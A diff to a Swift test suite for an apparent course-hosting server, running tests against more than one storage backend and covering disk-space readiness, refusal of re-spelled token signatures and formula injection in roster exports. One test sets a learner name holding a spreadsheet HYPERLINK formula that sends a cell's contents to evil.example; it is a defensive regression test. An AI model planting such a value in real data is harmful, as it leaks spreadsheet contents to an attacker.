@@ -79,6 +79,7 @@ func mode(_ path: String) throws -> Int {
             == "the database's write-ahead log \(database)-wal is missing; writes since it was removed are lost at restart", "\(ready.text)")
 }
 
+// SQLite only: a PostgreSQL server watches its own disk.
 @Test func readinessReportsADiskWithoutTheFreeSpaceAskedFor() throws {
     // No test can fill the disk; asking for 100 TB free is the same answer from statvfs.
     let (full, fullData) = try startServer(options: ["--min-free-disk-mb", "100000000"])
@@ -90,8 +91,8 @@ func mode(_ path: String) throws -> Int {
     #expect(try runLectern("serve", sampleCourse("python-foundations").path, "--min-free-disk-mb", "-1").exitCode == 64)
 }
 
-@Test func aTokenWhoseSignatureIsSpelledAnotherWayIsRefused() throws {
-    let (server, _) = try startServer()
+@Test(arguments: StoreKind.tested) func aTokenWhoseSignatureIsSpelledAnotherWayIsRefused(_ store: StoreKind) throws {
+    let (server, _) = try startServer(store: store)
     let access = try #require(try registerAndLogin(server, "ada")["access_token"] as? String)
     // 32 signature bytes leave 2 unused bits in the last character: the next letter decodes to the same bytes.
     let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
@@ -102,12 +103,12 @@ func mode(_ path: String) throws -> Int {
     #expect(refused.status == 401 && refused.json["detail"] as? String == "the access token is not valid", "\(refused.text)")
 }
 
-@Test func aLearnersNameCannotRunAsAFormulaInTheRosterExport() throws {
+@Test(arguments: StoreKind.tested) func aLearnersNameCannotRunAsAFormulaInTheRosterExport(_ store: StoreKind) throws {
     let course = try TemporaryCourse([
         "course.yaml": "title: Formulas\ninstructors:\n  - {name: Tess, email: teacher@example.org}\n",
         "01-m/01-a.md": "# A\n\nFirst.\n",
     ], name: "formulas")
-    let (server, _) = try startServer(course.url, staff: [("teacher", "teacher@example.org", "instructor")])
+    let (server, _) = try startServer(store: store, course.url, staff: [("teacher", "teacher@example.org", "instructor")])
     // In a spreadsheet whose list separator is ";", the part after ";" is a cell of its own.
     let name = "Ada;=HYPERLINK(\"http://evil.example/\"&A1, \"x\")"
     let created = try server.request("POST", "/api/v1/auth/register",
